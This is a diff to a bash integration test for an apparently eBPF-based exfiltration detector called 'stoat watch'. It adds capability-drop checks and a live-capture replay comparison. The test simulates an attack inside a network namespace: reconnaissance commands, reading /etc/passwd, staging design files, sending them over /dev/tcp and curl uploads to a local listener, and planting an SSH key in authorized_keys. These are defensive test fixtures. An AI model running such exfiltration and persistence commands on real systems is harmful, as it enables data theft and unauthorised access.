@@ -34,6 +34,17 @@ trap cleanup EXIT
 ip netns add "$NS" || { bad "ip netns add"; finish; }
 ip netns exec "$NS" ip link set lo up
 N() { ip netns exec "$NS" "$@"; }
+# a listener is ready when the namespace shows it listening (a fixed sleep is
+# not enough on a loaded machine: the client is refused and the listener waits)
+wait_listen() {   # wait_listen PORT...
+    local p
+    for p in "$@"; do
+        for _ in $(seq 1 100); do
+            N ss -Hltn "sport = :$p" 2>/dev/null | grep -q . && break
+            sleep 0.1
+        done
+    done
+}
 
 # fixtures: the jewels, test copies of persistence files
 mkdir -p "$T/design/tapeout" "$T/home/eng/.ssh" "$T/spool"
@@ -46,6 +57,29 @@ paths: ['$T/design/*']
 extensions: [gds]
 transfer_window: 1h
 EOF
+
+# After loading, every thread of the watch keeps only CAP_SYS_PTRACE and
+# CAP_DAC_READ_SEARCH (0x80004) in its effective, permitted and bounding
+# sets, none inheritable or ambient, and no_new_privs is set: an exec could
+# not win anything back.
+check_caps() {   # check_caps LABEL (the watch is $WPID)
+    local t st bad_tasks=""
+    for t in /proc/"$WPID"/task/*; do
+        st=$(cat "$t/status" 2>/dev/null) || continue
+        for k in CapEff CapPrm CapBnd; do
+            echo "$st" | grep -q "^$k:[[:space:]]*0000000000080004$" || bad_tasks="$bad_tasks ${t##*/}:$k"
+        done
+        for k in CapInh CapAmb; do
+            echo "$st" | grep -q "^$k:[[:space:]]*0000000000000000$" || bad_tasks="$bad_tasks ${t##*/}:$k"
+        done
+        echo "$st" | grep -q "^NoNewPrivs:[[:space:]]*1$" || bad_tasks="$bad_tasks ${t##*/}:NoNewPrivs"
+    done
+    if [ -z "$bad_tasks" ] && [ -d /proc/"$WPID"/task ]; then
+        ok "$1: capabilities dropped (CapEff/CapPrm/CapBnd 0x80004, NoNewPrivs)"
+    else
+        bad "$1: capabilities not dropped:$bad_tasks $(grep -h '^Cap\|^NoNew' /proc/"$WPID"/status 2>/dev/null | tr '\n' ' ')"
+    fi
+}
 
 run_scenario() {   # run_scenario OUTDIR [watch options...]
     local out=$1
@@ -60,6 +94,7 @@ run_scenario() {   # run_scenario OUTDIR [watch options...]
         sleep 0.1
     done
     grep -q "mode:" "$out/stderr" || { bad "stoat watch $* did not start: $(cat "$out/stderr")"; return 1; }
+    check_caps "stoat watch $* after loading"
 
     # a listener that takes uploads and counts the bytes
     N python3 -c '
@@ -84,7 +119,7 @@ try:
 except Exception: pass
 ' &
     local RPID=$!
-    sleep 0.5
+    wait_listen 9000 4444
 
     # discovery burst
     N bash -c 'id; uname -a; cat /etc/passwd >/dev/null; ss -tunap >/dev/null; ps aux >/dev/null; whoami' >/dev/null 2>&1
@@ -94,6 +129,7 @@ except Exception: pass
         grep -q "rules reloaded" "$out/stderr" 2>/dev/null && break
         sleep 0.1
     done
+    check_caps "stoat watch $* after a SIGHUP reload"
     # staging of the jewels
     N bash -c "cd '$T' && tar czf /tmp/.stage-$$.tgz design && base64 -w0 design/tapeout/n2-top.gds > '$T/b64.txt'"
     # exfiltration: the layout, raw over TCP (exact byte count), then a curl upload
@@ -233,11 +269,67 @@ print("\n".join(res))
 PY
 }
 
+# Replay: a live run captures the sensor's raw records (--capture); replaying
+# the capture (--replay, with no capabilities at all) must give the same
+# events and the same alerts, byte for byte. A run of its own, without the
+# SIGHUP of the scenario: a reload starts the correlations anew, which a
+# replay cannot know of.
+replay_check() {
+    local out=$T/replay
+    mkdir -p "$out"
+    "$STOAT" watch --jewels "$T/jewels.yml" --watch-path "$T/home" --format jsonl -o "$out/live.jsonl" \
+        --record "$out/live-record.jsonl" --capture "$out/capture" 2>"$out/stderr" &
+    WPID=$!
+    for _ in $(seq 1 100); do
+        grep -q "mode:" "$out/stderr" 2>/dev/null && break
+        sleep 0.1
+    done
+    grep -q "mode: ebpf" "$out/stderr" || { bad "stoat watch --capture did not start in eBPF mode: $(cat "$out/stderr")"; return; }
+    N python3 -c '
+import socket
+s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.1",9001)); s.listen(2)
+s.settimeout(60)
+for _ in range(2):
+    c,_=s.accept()
+    while c.recv(65536): pass
+    c.close()
+' &
+    local LPID=$!
+    wait_listen 9001
+    N bash -c 'id; uname -a; cat /etc/passwd >/dev/null; ss -tunap >/dev/null; ps aux >/dev/null; whoami' >/dev/null 2>&1
+    N bash -c "cd '$T' && tar czf /tmp/.stage-r$$.tgz design && base64 -w0 design/tapeout/n2-top.gds >/dev/null"
+    N bash -c "cat '$T/design/tapeout/n2-top.gds' > /dev/tcp/127.0.0.1/9001"
+    N curl -s -m 5 -T "$T/design/spec.txt" http://127.0.0.1:9001/up >/dev/null 2>&1
+    N bash -c "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIReplay replay@x' >> '$T/home/eng/.ssh/authorized_keys'"
+    rm -f "/tmp/.stage-r$$.tgz"
+    wait "$LPID" 2>/dev/null
+    sleep 0.5
+    kill -TERM "$WPID"
+    wait "$WPID"
+    WPID=
+    # no capabilities at all: a replay reads a file
+    setpriv --inh-caps=-all --bounding-set=-all --no-new-privs -- \
+        "$STOAT" watch --replay "$out/capture" --jewels "$T/jewels.yml" --format jsonl -o "$out/replay.jsonl" \
+        --record "$out/replay-record.jsonl" 2>"$out/replay.stderr"
+    local rc=$?
+    [ "$rc" -eq 0 ] && grep -q "mode: replay of" "$out/replay.stderr" && ok "replay: stoat watch --replay ran without capabilities" ||
+        bad "replay: stoat watch --replay exited $rc: $(cat "$out/replay.stderr")"
+    local n
+    n=$(grep -c '"kind":"alert"' "$out/live.jsonl")
+    [ "$n" -ge 3 ] && ok "replay: the live run alerted ($n alerts)" || bad "replay: the live run gave $n alerts"
+    cmp -s "$out/live.jsonl" "$out/replay.jsonl" && ok "replay: alerts and incidents identical to the live run's" ||
+        bad "replay: alerts differ from the live run's: $(diff "$out/live.jsonl" "$out/replay.jsonl" | head -c 600)"
+    cmp -s "$out/live-record.jsonl" "$out/replay-record.jsonl" &&
+        ok "replay: every event identical to the live run's ($(wc -l < "$out/live-record.jsonl") events)" ||
+        bad "replay: the events differ from the live run's: $(diff "$out/live-record.jsonl" "$out/replay-record.jsonl" | head -c 600)"
+}
+
 STORE_DB=$T/ebpf/store.db
 run_scenario "$T/ebpf" --db "$STORE_DB" && check "$T/ebpf" ebpf > "$T/ebpf.res" && cat "$T/ebpf.res" &&
     check_store "$T/ebpf" "$STORE_DB" > "$T/store.res" && cat "$T/store.res"
 STORE_DB=
 run_scenario "$T/fallback" --fallback && check "$T/fallback" fallback > "$T/fallback.res" && cat "$T/fallback.res"
+replay_check
 for f in "$T/ebpf.res" "$T/store.res" "$T/fallback.res"; do
     [ -f "$f" ] || continue
     PASS=$((PASS + $(grep -c '^ok ' "$f")))
